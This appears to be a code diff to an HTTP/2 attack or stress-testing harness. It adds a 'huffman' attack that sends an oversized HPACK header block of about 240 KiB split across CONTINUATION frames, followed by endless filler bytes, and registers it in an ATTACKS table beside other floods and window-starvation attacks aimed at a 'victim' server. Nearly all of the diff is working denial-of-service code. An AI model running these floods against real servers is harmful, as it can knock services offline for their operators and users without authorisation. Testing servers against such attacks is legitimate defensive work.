@@ -79,6 +79,27 @@ def _table() -> Iterator[bytes]:
         yield frame(CONTINUATION, END_HEADERS, stream, long + b"\xbe" * 8000)
 
 
+def _huffman() -> Iterator[bytes]:
+    """Heads of 240 KiB that have to be decoded bit by bit before their size is known."""
+    yield _head(1, "/page", flags=0)
+    text = b"\x18" * (15 * 16_000)
+    name = b"\x00\x01a\xff" + _integer(len(text) - 127)
+    block = name + text
+    parts = [block[at : at + 16_000] for at in range(0, len(block), 16_000)]
+    for part in parts[:-1]:
+        yield frame(CONTINUATION, 0, 1, part)
+    yield frame(CONTINUATION, END_HEADERS, 1, parts[-1])
+
+
+def _integer(rest: int) -> bytes:
+    """What follows of an integer of HPACK."""
+    made = bytearray()
+    while rest > 127:
+        made.append(rest & 127 | 128)
+        rest >>= 7
+    return bytes((*made, rest))
+
+
 def _holders(window: int, victim: Victim, seconds: float) -> Figures:
     """A thousand streams in ten connections, for whose responses there is no window."""
     socks: list[socket.socket] = []
@@ -104,6 +125,7 @@ ATTACKS: dict[str, Attack] = {
     "byte by byte": partial(flood, partial(_bytes, 1)),
     "settings of streams": partial(flood, _windows),
     "continuation": partial(flood, _unended),
+    "huffman": partial(flood, lambda: itertools.chain(_huffman(), itertools.repeat(b"\0" * 9))),
     "table": partial(flood, _table),
     "no window": partial(_holders, 0),
     "a window of a byte": partial(_holders, 1),
